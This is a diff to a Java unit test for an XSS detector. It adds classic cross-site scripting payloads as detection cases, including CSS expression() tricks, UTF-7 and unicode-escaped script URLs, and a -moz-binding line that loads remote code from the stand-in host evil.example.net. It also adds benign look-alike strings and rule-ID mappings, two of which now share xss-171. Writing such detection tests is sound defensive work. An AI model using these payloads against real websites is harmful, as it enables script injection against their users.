@@ -142,6 +142,13 @@ class XssDetectorTest {
         "<div style=\"width:expression(alert(1))\">",
         "<style>@import 'javascript:alert(1)';</style>",
         "color:red;background:url('javascript:alert(1)')",
+        "<STYLE>BODY{-moz-binding:url(\"http://evil.example.net/x.xml#xss\")}</STYLE>",
+        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+        "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
+            + "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028"
+            + " 1\\0029'\\0029\">",
+        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+        "<BR SIZE=\"&{alert('XSS')}\">",
         // javascript: and data: values
         "javascript:alert(1)",
         "JaVaScRiPt:alert(document.domain)",
@@ -312,6 +319,10 @@ class XssDetectorTest {
         "color: red;",
         "font-family: \"Helvetica Neue\", Arial; margin: 0 auto; background: url(/img/bg.png);",
         "Regular expression(s) are hard",
+        "body { color: red; /* see expression() docs */ }",
+        "C:\\Users\\Public\\file.txt (copy)",
+        "Use \\( and \\) in regex: \\d+(\\.\\d+)?",
+        "Price +ADw-nothing+AD4- here and a+ACI-b",
         "Use the onerror handler to catch failures; onload fires later.",
         "onboarding=true",
         "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk",
@@ -406,7 +417,8 @@ class XssDetectorTest {
         "alert(1)                                          | xss-152",
         "{{ $eval('1') }}                                  | xss-160",
         "{{constructor.constructor('alert(1)')()}}         | xss-161",
-        "<div style=\"-moz-binding:url(//evil.example.net/x.xml#x)\"> | xss-170",
+        "-moz-binding:url(//evil.example.net/x.xml#x)      | xss-170",
+        "<div style=\"-moz-binding:url(//evil.example.net/x.xml#x)\"> | xss-171",
         "<div style=\"width:expression(alert(1))\">      | xss-171",
         "<div style=\"background:url(javascript:alert(1))\"> | xss-130",
       })
